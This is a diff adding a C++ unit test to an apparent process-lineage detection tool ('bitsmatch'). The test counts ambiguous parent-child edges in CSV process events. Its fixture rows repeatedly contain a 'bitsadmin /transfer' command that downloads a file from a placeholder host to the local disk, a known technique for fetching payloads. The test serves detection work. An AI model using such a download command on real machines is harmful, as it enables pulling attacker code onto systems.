@@ -53,5 +53,17 @@ TEST(RunFigures, WithLineageAlsoTheEdgesThatAreInDoubt) {
   EXPECT_FALSE(counts_of(without).contains("bitsmatch.ambiguous_edges"));
 }
 
+// A table that is half full makes way for another between two chunks.
+TEST(RunFigures, CountTheEdgesOfEachTableThatASearchFilled) {
+  CommandRun run({"lineage=search", "maxprocesses=4"});
+  const std::string header = "process,process_id,parent_process_id,process_name,_time\n";
+  const std::string transfer = "\"bitsadmin /transfer j https://h.example/a C:\\a\"";
+  const std::string rows = header + transfer + ",7,,a.exe,\n" + transfer + ",7,,a.exe,\n" +
+                           transfer + ",8,7,bitsadmin.exe,100\n";
+  run.chunk(rows, false);
+  run.chunk(rows);
+  EXPECT_EQ(counts_of(run).at("bitsmatch.ambiguous_edges"), Counts(6, 2));
+}
+
 }  // namespace
 }  // namespace bits
